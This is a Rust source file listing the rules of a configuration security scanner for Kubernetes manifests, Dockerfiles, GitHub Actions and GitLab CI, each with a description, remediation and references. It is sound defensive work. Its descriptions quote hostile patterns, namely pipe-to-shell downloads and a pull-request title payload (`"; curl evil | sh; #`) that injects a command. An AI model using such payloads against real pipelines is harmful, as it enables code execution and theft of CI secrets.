//! Every rule this crate reports, for `rampart rules`. Rules about one kind of file are
//! named after it (`k8s/`, `docker/`, `gha/`, `gitlab/`); rules that apply to several kinds
//! are named after the subject (`image/`, `download/`, `env/`, `ci/`).

use rampart_core::{Reference, Rule, Severity};

const SCANNER: &str = "config";

const PSS: Reference =
    Reference::Url("https://kubernetes.io/docs/concepts/security/pod-security-standards/");
const ATTACK_ESCAPE_TO_HOST: Reference =
    Reference::Url("https://attack.mitre.org/techniques/T1611/");
const ATTACK_UNSECURED_CREDENTIALS: Reference =
    Reference::Url("https://attack.mitre.org/techniques/T1552/001/");
const ATTACK_SUPPLY_CHAIN: Reference =
    Reference::Url("https://attack.mitre.org/techniques/T1195/002/");
const CICD_DEPENDENCY_CHAIN: Reference = Reference::Url(
    "https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-03-Dependency-Chain-Abuse",
);
const CICD_POISONED_PIPELINE: Reference = Reference::Url(
    "https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-04-Poisoned-Pipeline-Execution",
);
const CICD_PBAC: Reference = Reference::Url(
    "https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-05-Insufficient-PBAC",
);
const CICD_CREDENTIAL_HYGIENE: Reference = Reference::Url(
    "https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-06-Insufficient-Credential-Hygiene",
);
const CICD_THIRD_PARTY: Reference = Reference::Url(
    "https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-08-Ungoverned-Usage-of-3rd-Party-Services",
);
const CICD_ARTIFACT_INTEGRITY: Reference = Reference::Url(
    "https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-09-Improper-Artifact-Integrity-Validation",
);
const GHA_HARDENING: Reference = Reference::Url(
    "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions",
);

// ---------------------------------------------------------------------------------------
// Kubernetes

pub static K8S_PRIVILEGED: Rule = Rule {
    id: "k8s/privileged-container",
    scanner: SCANNER,
    severity: Severity::High,
    title: "Container runs privileged",
    description: "`securityContext.privileged: true` gives the container every capability and \
                  all host devices: a process in it (a compromised model server, a malicious \
                  pickle loaded by a training job) is root on the node and can take over the \
                  node and its other pods. GPU containers are often made privileged to reach \
                  the devices, which the device plugin already provides. Pod Security Standards \
                  (baseline) forbid it; CIS Kubernetes Benchmark 5.2.2.",
    remediation: "Remove `privileged: true`. Request GPUs through the device plugin \
                  (`resources.limits: {nvidia.com/gpu: 1}`), and add only the specific \
                  capability a tool needs, if any.",
    references: &[
        Reference::Cwe(250),
        ATTACK_ESCAPE_TO_HOST,
        Reference::Atlas("AML.T0011.000"),
        PSS,
    ],
};

pub static K8S_PRIVILEGE_ESCALATION: Rule = Rule {
    id: "k8s/privilege-escalation",
    scanner: SCANNER,
    severity: Severity::Medium,
    title: "Container allows privilege escalation",
    description: "`allowPrivilegeEscalation` is true (explicitly, or by default when unset), so \
                  setuid binaries such as `sudo` or `su` in the image can give a non-root \
                  process root inside the container (no_new_privs is not set). Pod Security \
                  Standards (restricted) require false; CIS Kubernetes Benchmark 5.2.6.",
    remediation: "Set `securityContext.allowPrivilegeEscalation: false` on every container.",
    references: &[Reference::Cwe(269), ATTACK_ESCAPE_TO_HOST, PSS],
};

pub static K8S_HOST_NAMESPACE: Rule = Rule {
    id: "k8s/host-namespace",
    scanner: SCANNER,
    severity: Severity::High,
    title: "Pod shares a host namespace",
    description: "`hostNetwork`, `hostPID` or `hostIPC` puts the pod in the node's namespace: \
                  with hostNetwork it reaches node-local services (kubelet, cloud metadata at \
                  169.254.169.254) and sniffs traffic; with hostPID it sees and signals every \
                  process on the node (and reads their environment, including other pods' \
                  credentials); with hostIPC it reads shared memory of host processes. Pod \
                  Security Standards (baseline) forbid all three; CIS Kubernetes Benchmark \
                  5.2.3-5.2.5.",
    remediation: "Remove `hostNetwork`, `hostPID` and `hostIPC` (or set them to false). Expose \
                  ports through a Service; for NCCL/RDMA multi-node training use a CNI that \
                  provides the fast interfaces (e.g. Multus with SR-IOV) instead of hostNetwork.",
    references: &[Reference::Cwe(250), ATTACK_ESCAPE_TO_HOST, PSS],
};

pub static K8S_HOST_PATH: Rule = Rule {
    id: "k8s/host-path-volume",
    scanner: SCANNER,
    severity: Severity::High,
    title: "Pod mounts a directory of the node (hostPath)",
    description: "A hostPath volume exposes the node's filesystem to the pod. A container \
                  runtime socket (`docker.sock`, `containerd.sock`, `crio.sock`) or `/` is \
                  root on the node; `/etc`, `/var/lib/kubelet` or `/root` give its \
                  credentials. Training jobs often mount host directories for datasets or \
                  model caches, which also lets any compromised job poison what other jobs \
                  read. Pod Security Standards (baseline) forbid hostPath; CIS Kubernetes \
                  Benchmark 5.2.12.",
    remediation: "Use a PersistentVolumeClaim (or a CSI driver for the dataset store) instead of \
                  hostPath. Never mount container runtime sockets into workloads.",
    references: &[
        Reference::Cwe(668),
        ATTACK_ESCAPE_TO_HOST,
        Reference::Atlas("AML.T0020"),
        PSS,
    ],
};

pub static K8S_RUNS_AS_ROOT: Rule = Rule {
    id: "k8s/runs-as-root",
    scanner: SCANNER,
    severity: Severity::Medium,
    title: "Container may run as root",
    description: "The container sets `runAsUser: 0`, or sets neither `runAsNonRoot: true` nor a \
                  non-zero `runAsUser` (for itself or through the pod), so it runs as whatever \
                  user the image declares: root for most ML images (CUDA, PyTorch, Triton). A \
                  root process turns any container escape or writable hostPath into node \
                  compromise. Pod Security Standards (restricted); CIS Kubernetes Benchmark \
                  5.2.7.",
    remediation: "Set `runAsNonRoot: true` and a numeric `runAsUser` (e.g. 10001) in the pod's \
                  or container's securityContext, and build the image with a matching `USER`.",
    references: &[Reference::Cwe(250), ATTACK_ESCAPE_TO_HOST, PSS],
};

pub static K8S_CAPABILITY: Rule = Rule {
    id: "k8s/added-capability",
    scanner: SCANNER,
    severity: Severity::High,
    title: "Container adds a dangerous Linux capability",
    description: "`securityContext.capabilities.add` grants capabilities outside the Pod Security \
                  Standards baseline set. SYS_ADMIN, SYS_MODULE, SYS_PTRACE, DAC_READ_SEARCH, \
                  BPF and ALL are known container-escape primitives; NET_ADMIN and NET_RAW allow \
                  traffic interception and spoofing inside the cluster network. CIS Kubernetes \
                  Benchmark 5.2.8, 5.2.9.",
    remediation: "Drop all capabilities (`capabilities: {drop: [\"ALL\"]}`) and add back only a \
                  specific, harmless one that the process demonstrably needs (e.g. \
                  NET_BIND_SERVICE).",
    references: &[Reference::Cwe(250), ATTACK_ESCAPE_TO_HOST, PSS],
};

pub static K8S_MISSING_MEMORY_LIMIT: Rule = Rule {
    id: "k8s/missing-memory-limit",
    scanner: SCANNER,
    severity: Severity::Low,
    title: "Container has no memory limit",
    description: "Without `resources.limits.memory` a container can take all memory of its node: \
                  one runaway or attacker-driven request (a huge batch, a decompression bomb in \
                  an uploaded file) evicts or OOM-kills the other workloads on the node, \
                  including other inference servers. CPU limits are not required by this rule \
                  (they throttle latency-sensitive inference and are a scheduling choice).",
    remediation: "Set `resources.requests.memory` and `resources.limits.memory` from measured \
                  peak usage.",
    references: &[Reference::Cwe(770), Reference::Atlas("AML.T0029")],
};

pub static K8S_GPU_REQUEST_WITHOUT_LIMIT: Rule = Rule {
    id: "k8s/gpu-request-without-limit",
    scanner: SCANNER,
    severity: Severity::Medium,
    title: "Accelerator requested without a limit",
    description: "The container requests an accelerator (`nvidia.com/gpu`, `amd.com/gpu`, …) \
                  under `resources.requests` but not under `resources.limits`. Extended resources \
                  cannot be overcommitted: the API server rejects such a pod, so the workload \
                  never starts, or someone 'fixes' it by removing the request, and the container \
                  then runs on a GPU node without any GPU assigned while CUDA base images still \
                  expose every GPU of the node to it (`NVIDIA_VISIBLE_DEVICES=all`).",
    remediation: "Declare accelerators under `resources.limits` (the request defaults to the \
                  limit): `limits: {nvidia.com/gpu: 1}`.",
    references: &[Reference::Cwe(20), Reference::Atlas("AML.T0029")],
};

pub static K8S_GPU_ALL_DEVICES: Rule = Rule {
    id: "k8s/gpu-visible-devices-override",
    scanner: SCANNER,
    severity: Severity::Medium,
    title: "Container selects GPUs itself through NVIDIA_VISIBLE_DEVICES",
    description: "The container sets `NVIDIA_VISIBLE_DEVICES` (e.g. `all`) without a GPU limit. \
                  On nodes where the NVIDIA container runtime is the default, this variable, not \
                  the scheduler, decides which GPUs the container gets: the pod uses GPUs \
                  assigned to other pods, can read their GPU memory (model weights, inputs), and \
                  escapes GPU quotas.",
    remediation: "Remove `NVIDIA_VISIBLE_DEVICES` from the pod spec and request GPUs with \
                  `resources.limits: {nvidia.com/gpu: N}`; configure the device plugin with \
                  `DEVICE_LIST_STRATEGY=volume-mounts` and the runtime with \
                  `accept-nvidia-visible-devices-envvar-when-unprivileged = false`.",
    references: &[Reference::Cwe(284), Reference::Atlas("AML.T0029")],
};

pub static K8S_SECRET_MANIFEST: Rule = Rule {
    id: "k8s/secret-data-in-manifest",
    scanner: SCANNER,
    severity: Severity::Medium,
    title: "Secret manifest carries its values",
    description: "A `kind: Secret` manifest holds literal values under `data` (base64 is an \
                  encoding, not encryption) or `stringData`. Whoever can read the repository or \
                  the chart can read the credentials, and they stay in version history after \
                  rotation.",
    remediation: "Keep Secret values out of manifests: create them from a secret manager \
                  (External Secrets Operator, Secrets Store CSI driver) or commit them encrypted \
                  (Sealed Secrets, SOPS). Rotate the values that were committed.",
    references: &[
        Reference::Cwe(798),
        ATTACK_UNSECURED_CREDENTIALS,
        Reference::Atlas("AML.T0055"),
    ],
};

pub static K8S_RBAC_WILDCARD: Rule = Rule {
    id: "k8s/rbac-wildcard",
    scanner: SCANNER,
    severity: Severity::Medium,
    title: "RBAC role grants wildcard access",
    description: "A Role or ClusterRole rule uses `*` for verbs, resources or API groups, so it \
                  grants access to everything of that kind, including Secrets and resources \
                  added later (new CRDs such as InferenceServices or training jobs). A service \
                  account of a notebook or pipeline with such a role reads every credential in \
                  its scope. CIS Kubernetes Benchmark 5.1.3.",
    remediation: "List the exact API groups, resources and verbs the workload needs; grant \
                  Secrets access by `resourceNames` only.",
    references: &[Reference::Cwe(269), Reference::Cwe(732)],
};

pub static K8S_CLUSTER_ADMIN_BINDING: Rule = Rule {
    id: "k8s/cluster-admin-binding",
    scanner: SCANNER,
    severity: Severity::High,
    title: "Binding grants cluster-admin",
    description: "A RoleBinding or ClusterRoleBinding gives the `cluster-admin` ClusterRole to a \
                  service account, user or group. Anything running as that subject (a pipeline \
                  step, an operator, a notebook) controls the whole cluster. CIS Kubernetes \
                  Benchmark 5.1.1.",
    remediation: "Bind a role that lists only the resources and verbs the subject needs; keep \
                  cluster-admin for break-glass human access.",
    references: &[Reference::Cwe(269), Reference::Cwe(250)],
};

pub static K8S_UNRENDERED_TEMPLATE: Rule = Rule {
    id: "k8s/unrendered-template",
    scanner: SCANNER,
    severity: Severity::Info,
    title: "Helm template was not analysed",
    description: "The file is a Helm (Go) template: `{{ … }}` actions make it invalid YAML until \
                  it is rendered with values, so its security settings cannot be checked here.",
    remediation: "Render the chart with the values you deploy (`helm template RELEASE CHART -f \
                  values.yaml > rendered.yaml`) and scan the rendered output.",
    references: &[Reference::Cwe(693)],
};

// ---------------------------------------------------------------------------------------
// Shared by several kinds of file

pub static IMAGE_UNPINNED: Rule = Rule {
    id: "image/unpinned",
    scanner: SCANNER,
    severity: Severity::Medium,
    title: "Container image not pinned by digest",
    description: "The image is referenced by a tag (or none, which means `latest`). Tags are \
                  mutable: a re-push, a compromised registry account or a typo-squatted \
                  repository changes what runs without any change in this file, and builds are \
                  not reproducible. ML images are large, rarely inspected and run with GPUs and \
                  data access. Severity is medium for `latest` or no tag, low for a specific tag.",
    remediation: "Reference images as `name:tag@sha256:<digest>` and let Renovate or Dependabot \
                  propose digest updates; verify signatures (cosign) where the publisher signs.",
    references: &[
        Reference::Cwe(829),
        Reference::Cwe(494),
        ATTACK_SUPPLY_CHAIN,
        Reference::Atlas("AML.T0010"),
        Reference::Owasp("ML06:2023"),
        CICD_ARTIFACT_INTEGRITY,
    ],
};

pub static ENV_HARDCODED_SECRET: Rule = Rule {
    id: "env/hardcoded-secret",
    scanner: SCANNER,
    severity: Severity::High,
    title: "Secret hard-coded in configuration",
    description: "A variable or input whose name says it holds a credential (`HF_TOKEN`, \
                  `WANDB_API_KEY`, `DB_PASSWORD`, …) is given a literal value in a manifest, \
                  Dockerfile or pipeline. The value is readable by everyone with access to the \
                  repository, stays in its history, and (in a Dockerfile) in every layer and \
                  copy of the image.",
    remediation: "Rotate the credential, then pass it at run time: Kubernetes \
                  `valueFrom.secretKeyRef`, BuildKit `RUN --mount=type=secret`, GitHub \
                  `${{ secrets.NAME }}`, GitLab masked and protected CI/CD variables.",
    references: &[
        Reference::Cwe(798),
        ATTACK_UNSECURED_CREDENTIALS,
        Reference::Atlas("AML.T0055"),
        CICD_CREDENTIAL_HYGIENE,
    ],
};

pub static DOWNLOAD_PIPED_TO_INTERPRETER: Rule = Rule {
    id: "download/piped-to-interpreter",
    scanner: SCANNER,
    severity: Severity::High,
    title: "Downloaded script executed without verification",
    description: "A script is downloaded and run in one step (`curl … | sh`, `wget -O- … | \
                  bash`, `sh -c \"$(curl …)\"`). Whatever the server returns, or whoever \
                  controls the domain, a CDN or the path to it, runs inside the build or \
                  pipeline with its credentials, and nothing records what ran. Installers of CUDA \
                  tooling, model CLIs and package managers are common targets.",
    remediation: "Download to a file, verify a published checksum or signature, then run it: \
                  `curl -fsSLo install.sh URL && echo \"<sha256>  install.sh\" | sha256sum -c - \
                  && sh install.sh`. Better, install a pinned package from a verified \
                  repository.",
    references: &[
        Reference::Cwe(494),
        ATTACK_SUPPLY_CHAIN,
        Reference::Atlas("AML.T0010.001"),
        Reference::Atlas("AML.T0050"),
        CICD_DEPENDENCY_CHAIN,
    ],
};

pub static DOWNLOAD_VERIFICATION_DISABLED: Rule = Rule {
    id: "download/verification-disabled",
    scanner: SCANNER,
    severity: Severity::Medium,
    title: "TLS or signature verification switched off for downloads",
    description: "A download or install is told to skip verification: `curl -k`, `wget \
                  --no-check-certificate`, `pip --trusted-host` or an `http://` index, \
                  `git -c http.sslVerify=false`, `apt --allow-unauthenticated`, `apk \
                  --allow-untrusted`, `--nogpgcheck`, `GIT_SSL_NO_VERIFY`, \
                  `PYTHONHTTPSVERIFY=0`, `NODE_TLS_REJECT_UNAUTHORIZED=0`. Anyone on the network \
                  path (a proxy, a compromised Wi-Fi, a poisoned DNS) can then substitute the \
                  packages or code that are installed.",
    remediation: "Remove the option. If a private mirror uses its own CA, install that CA \
                  certificate in the image or runner (`--cert`, `REQUESTS_CA_BUNDLE`, \
                  `update-ca-certificates`) instead of turning verification off.",
    references: &[
        Reference::Cwe(295),
        Reference::Cwe(494),
        ATTACK_SUPPLY_CHAIN,
        Reference::Atlas("AML.T0010.001"),
        CICD_ARTIFACT_INTEGRITY,
    ],
};

pub static DOWNLOAD_PIP_EXTRA_INDEX: Rule = Rule {
    id: "download/pip-extra-index-url",
    scanner: SCANNER,
    severity: Severity::Medium,
    title: "pip merges an extra package index with PyPI",
    description: "`--extra-index-url` (or `PIP_EXTRA_INDEX_URL`) makes pip consider PyPI and the \
                  extra index together and install the highest version found on either. Any \
                  package name that exists only on the extra (private or vendor) index can be \
                  registered on PyPI by anyone, with a higher version, and wins: dependency \
                  confusion. This is how PyTorch nightly installs pulled the malicious \
                  `torchtriton` from PyPI in December 2022.",
    remediation: "Use a single index: `--index-url https://download.pytorch.org/whl/cu121` for \
                  the vendor wheels (as PyTorch now documents), or a proxy (devpi, Artifactory, \
                  Nexus) that serves private names exclusively; or use uv, whose default index \
                  strategy never mixes indexes for one package. Install from a lock file with \
                  `--require-hashes`.",
    references: &[
        Reference::Cwe(427),
        Reference::Cwe(829),
        ATTACK_SUPPLY_CHAIN,
        Reference::Atlas("AML.T0010.001"),
        Reference::Owasp("ML06:2023"),
        CICD_DEPENDENCY_CHAIN,
    ],
};

pub static CI_SECRET_ECHOED: Rule = Rule {
    id: "ci/secret-printed",
    scanner: SCANNER,
    severity: Severity::Medium,
    title: "Pipeline prints a secret to the job log",
    description: "A pipeline script prints a secret (`echo $TOKEN`, `echo ${{ secrets.X }}`) or \
                  dumps all variables (`env`, `printenv`). Log masking only hides the exact \
                  registered value: any transformation (base64, a substring, JSON quoting, a \
                  multi-line value) prints it in clear, and job logs are readable by everyone who \
                  can read the project, often for months.",
    remediation: "Do not print secrets or the whole environment. Pass secrets to tools through \
                  environment variables or stdin (`--password-stdin`); debug with the variable's \
                  length or a hash prefix instead.",
    references: &[
        Reference::Cwe(532),
        ATTACK_UNSECURED_CREDENTIALS,
        Reference::Atlas("AML.T0055"),
        CICD_CREDENTIAL_HYGIENE,
    ],
};

// ---------------------------------------------------------------------------------------
// Dockerfiles

pub static DOCKER_RUNS_AS_ROOT: Rule = Rule {
    id: "docker/runs-as-root",
    scanner: SCANNER,
    severity: Severity::Medium,
    title: "Image runs as root",
    description: "The final stage of the Dockerfile has no `USER` instruction (and its base image \
                  is not a known non-root variant), or its last `USER` is root. Containers from \
                  the image run as root unless every deployment overrides the user, so a \
                  compromised model server or notebook has root in the container, one step from \
                  the host. CIS Docker Benchmark 4.1.",
    remediation: "Create an unprivileged user and switch to it at the end of the final stage: \
                  `RUN useradd --uid 10001 --create-home app` then `USER 10001`.",
    references: &[Reference::Cwe(250), ATTACK_ESCAPE_TO_HOST],
};

pub static DOCKER_ADD_REMOTE: Rule = Rule {
    id: "docker/add-remote-url",
    scanner: SCANNER,
    severity: Severity::Medium,
    title: "ADD fetches a remote URL without a checksum",
    description: "`ADD https://…` (or a git URL not pinned to a commit) downloads at build time \
                  and puts whatever the server returns into the image, without any integrity \
                  check. Model weights, tokenizers and installers fetched this way can be \
                  swapped at the source. CIS Docker Benchmark 4.9.",
    remediation: "Add `--checksum=sha256:<digest>` to the ADD instruction (Dockerfile syntax \
                  1.6+), pin git sources to a full commit (`ADD https://github.com/o/r.git#<sha>`), \
                  or download with RUN and verify the checksum before use.",
    references: &[
        Reference::Cwe(494),
        ATTACK_SUPPLY_CHAIN,
        Reference::Atlas("AML.T0010"),
        Reference::Owasp("ML06:2023"),
    ],
};

pub static DOCKER_SECRET_BUILD_VARIABLE: Rule = Rule {
    id: "docker/secret-in-build-variable",
    scanner: SCANNER,
    severity: Severity::Medium,
    title: "Secret passed through ARG or ENV",
    description: "A build argument or environment variable named like a credential \
                  (`ARG HF_TOKEN`, `ENV API_KEY=$API_KEY`) carries a secret into the build. \
                  `--build-arg` values are recorded in the image history and provenance, and \
                  ENV values are stored in the image configuration: anyone who can pull the \
                  image can read them. CIS Docker Benchmark 4.10.",
    remediation: "Use a BuildKit secret mount for build-time credentials: `RUN \
                  --mount=type=secret,id=hf_token HF_TOKEN=$(cat /run/secrets/hf_token) \
                  huggingface-cli download …`, built with `docker build --secret \
                  id=hf_token,env=HF_TOKEN`. Pass run-time credentials when the container \
                  starts, never through the image.",
    references: &[
        Reference::Cwe(522),
        Reference::Cwe(538),
        ATTACK_UNSECURED_CREDENTIALS,
        Reference::Atlas("AML.T0055"),
    ],
};

// ---------------------------------------------------------------------------------------
// GitHub Actions

pub static GHA_UNPINNED_ACTION: Rule = Rule {
    id: "gha/unpinned-action",
    scanner: SCANNER,
    severity: Severity::Medium,
    title: "Third-party action not pinned to a commit",
    description: "A third-party action or reusable workflow is referenced by a tag or branch \
                  (`@v4`, `@main`). Its owner, or anyone who compromises the owner's account, \
                  can move the tag: in March 2025 the tags of `tj-actions/changed-files` were \
                  rewritten to dump CI secrets of every workflow using it (CVE-2025-30066). \
                  Actions owned by GitHub (`actions/*`, `github/*`) are exempt from this rule, \
                  following zizmor's default policy: GitHub's own release process protects them, \
                  and pinning them is a hardening choice rather than a finding.",
    remediation: "Pin to the full 40-character commit SHA and keep the tag as a comment \
                  (`uses: owner/action@<sha> # v4.2.1`); let Dependabot or Renovate update the \
                  SHA. Enable the repository setting that requires SHA pinning.",
    references: &[
        Reference::Cwe(829),
        Reference::Advisory("CVE-2025-30066"),
        ATTACK_SUPPLY_CHAIN,
        Reference::Atlas("AML.T0010.001"),
        CICD_THIRD_PARTY,
        GHA_HARDENING,
    ],
};

pub static GHA_UNTRUSTED_CHECKOUT: Rule = Rule {
    id: "gha/untrusted-checkout",
    scanner: SCANNER,
    severity: Severity::Critical,
    title: "Privileged workflow checks out pull request code",
    description: "A workflow triggered by `pull_request_target` or `workflow_run` runs with the \
                  base repository's secrets and a write token, and checks out the head of the \
                  pull request (code anyone can propose from a fork). Any build, install or \
                  test step that follows runs the attacker's code with those privileges \
                  (\"pwn request\"): secrets, model registry tokens and the repository itself \
                  are exposed.",
    remediation: "Run untrusted code only in `pull_request` workflows (no secrets, read-only \
                  token). If results must reach a privileged workflow, pass them as artifacts \
                  and treat them as data. If the privileged workflow must look at the PR, check \
                  out the base branch, or check out the PR into a separate directory and never \
                  execute anything from it.",
    references: &[
        Reference::Cwe(829),
        Reference::Cwe(94),
        Reference::Atlas("AML.T0010.001"),
        CICD_POISONED_PIPELINE,
        GHA_HARDENING,
    ],
};

pub static GHA_SCRIPT_INJECTION: Rule = Rule {
    id: "gha/script-injection",
    scanner: SCANNER,
    severity: Severity::High,
    title: "Untrusted input expanded into a script",
    description: "A `${{ … }}` expression that an outsider controls (issue or pull request title \
                  and body, comment text, branch name, commit message, author name) is pasted \
                  into a `run:` script (or an `actions/github-script` script) before the shell \
                  or JavaScript sees it. A title such as `\"; curl evil | sh; #` becomes code, \
                  running with the job's token and secrets. Critical on triggers that outsiders \
                  reach with secrets (pull_request_target, issue_comment, issues, workflow_run).",
    remediation: "Pass the value through an environment variable and quote it in the script: \
                  `env: TITLE: ${{ github.event.pull_request.title }}` and `run: echo \
                  \"$TITLE\"`.",
    references: &[
        Reference::Cwe(78),
        Reference::Cwe(94),
        Reference::Atlas("AML.T0050"),
        CICD_POISONED_PIPELINE,
        GHA_HARDENING,
    ],
};

pub static GHA_PERMISSIONS_WRITE_ALL: Rule = Rule {
    id: "gha/permissions-write-all",
    scanner: SCANNER,
    severity: Severity::High,
    title: "Workflow grants the token write access to everything",
    description: "`permissions: write-all` gives the job's GITHUB_TOKEN write access to contents, \
                  packages, actions, deployments, pull requests and more. Any compromised step \
                  (a hijacked action, an injected script) can push code, publish packages or \
                  models, and alter releases.",
    remediation: "Declare `permissions: {contents: read}` at the top of the workflow and grant \
                  single write scopes on the jobs that need them (e.g. `packages: write` on the \
                  publish job).",
    references: &[
        Reference::Cwe(250),
        Reference::Cwe(732),
        CICD_PBAC,
        GHA_HARDENING,
    ],
};

pub static GHA_PERMISSIONS_UNDECLARED: Rule = Rule {
    id: "gha/permissions-undeclared",
    scanner: SCANNER,
    severity: Severity::Low,
    title: "Workflow does not declare token permissions",
    description: "Neither the workflow nor all of its jobs declare `permissions`, so the \
                  GITHUB_TOKEN gets the repository or organisation default, which is read-write \
                  on repositories created before February 2023 and on many organisations. Any \
                  compromised step inherits that access. Medium on pull_request_target and \
                  workflow_run, which always get a write token.",
    remediation: "Add `permissions: {contents: read}` at the top of the workflow and grant write \
                  scopes per job where needed.",
    references: &[Reference::Cwe(250), CICD_PBAC, GHA_HARDENING],
};

// ---------------------------------------------------------------------------------------
// GitLab CI

pub static GITLAB_INCLUDE_UNPINNED: Rule = Rule {
    id: "gitlab/include-unpinned",
    scanner: SCANNER,
    severity: Severity::Medium,
    title: "Included pipeline configuration is not pinned",
    description: "An `include:` pulls CI configuration from another project at a branch or tag \
                  (or its default branch when `ref` is missing), or from a remote URL without \
                  `integrity`. Whoever can change that source changes what this pipeline runs, \
                  with this project's variables and tokens. Components referenced as `~latest` \
                  or without a version are treated the same way.",
    remediation: "Pin project includes to a full commit SHA (`ref: <sha>`), add `integrity: \
                  sha256-<digest>` to remote includes (GitLab 17.9+), or vendor the file into \
                  the repository; pin components to a released version or SHA.",
    references: &[
        Reference::Cwe(829),
        ATTACK_SUPPLY_CHAIN,
        Reference::Atlas("AML.T0010.001"),
        CICD_THIRD_PARTY,
    ],
};

pub static GITLAB_JOB_TOKEN_MISUSE: Rule = Rule {
    id: "gitlab/job-token-exposed",
    scanner: SCANNER,
    severity: Severity::Medium,
    title: "CI job token sent to a third party or written to a file",
    description: "`CI_JOB_TOKEN` acts with the permissions of the user who started the pipeline \
                  on this project and on every project that allows it. Sending it to a host \
                  that is not the GitLab instance (in a header or URL), or writing it to a file \
                  that can end up in an artifact or cache, hands those permissions to whoever \
                  reads it while the job runs.",
    remediation: "Send the job token only to the GitLab API (`$CI_API_V4_URL`, \
                  `$CI_SERVER_URL`); use a dedicated, narrowly scoped token or OIDC \
                  (`id_tokens:`) for other services; never write the token to disk.",
    references: &[
        Reference::Cwe(522),
        ATTACK_UNSECURED_CREDENTIALS,
        Reference::Atlas("AML.T0055"),
        CICD_CREDENTIAL_HYGIENE,
    ],
};

pub static GITLAB_MR_PIPELINE_SECRETS: Rule = Rule {
    id: "gitlab/merge-request-job-uses-secrets",
    scanner: SCANNER,
    severity: Severity::Low,
    title: "Merge request job uses secrets without a same-project guard",
    description: "The job runs in merge request pipelines and uses credential variables, but its \
                  rules do not require the merge request to come from this project. When a \
                  maintainer runs a fork's merge request pipeline in the parent project (the \
                  'Run pipeline' button, or the project setting for fork pipelines), the fork's \
                  code runs with the parent's CI/CD variables: anyone who can open a merge \
                  request can then read them.",
    remediation: "Guard secret-using jobs with `rules: - if: $CI_MERGE_REQUEST_SOURCE_PROJECT_ID \
                  == $CI_PROJECT_ID`, mark credentials as protected variables (only available \
                  on protected branches), and review fork changes before running their \
                  pipelines in the parent project.",
    references: &[
        Reference::Cwe(829),
        ATTACK_UNSECURED_CREDENTIALS,
        CICD_POISONED_PIPELINE,
    ],
};

/// Every rule of this crate.
pub static RULES: &[&Rule] = &[
    &K8S_PRIVILEGED,
    &K8S_PRIVILEGE_ESCALATION,
    &K8S_HOST_NAMESPACE,
    &K8S_HOST_PATH,
    &K8S_RUNS_AS_ROOT,
    &K8S_CAPABILITY,
    &K8S_MISSING_MEMORY_LIMIT,
    &K8S_GPU_REQUEST_WITHOUT_LIMIT,
    &K8S_GPU_ALL_DEVICES,
    &K8S_SECRET_MANIFEST,
    &K8S_RBAC_WILDCARD,
    &K8S_CLUSTER_ADMIN_BINDING,
    &K8S_UNRENDERED_TEMPLATE,
    &IMAGE_UNPINNED,
    &ENV_HARDCODED_SECRET,
    &DOWNLOAD_PIPED_TO_INTERPRETER,
    &DOWNLOAD_VERIFICATION_DISABLED,
    &DOWNLOAD_PIP_EXTRA_INDEX,
    &CI_SECRET_ECHOED,
    &DOCKER_RUNS_AS_ROOT,
    &DOCKER_ADD_REMOTE,
    &DOCKER_SECRET_BUILD_VARIABLE,
    &GHA_UNPINNED_ACTION,
    &GHA_UNTRUSTED_CHECKOUT,
    &GHA_SCRIPT_INJECTION,
    &GHA_PERMISSIONS_WRITE_ALL,
    &GHA_PERMISSIONS_UNDECLARED,
    &GITLAB_INCLUDE_UNPINNED,
    &GITLAB_JOB_TOKEN_MISUSE,
    &GITLAB_MR_PIPELINE_SECRETS,
];

#[cfg(test)]
mod tests {
    use super::RULES;

    #[test]
    fn rules_are_unique_and_fully_described() {
        assert_eq!(
            rampart_core::rule_table_problems(RULES, "config"),
            Vec::<String>::new()
        );
    }
}
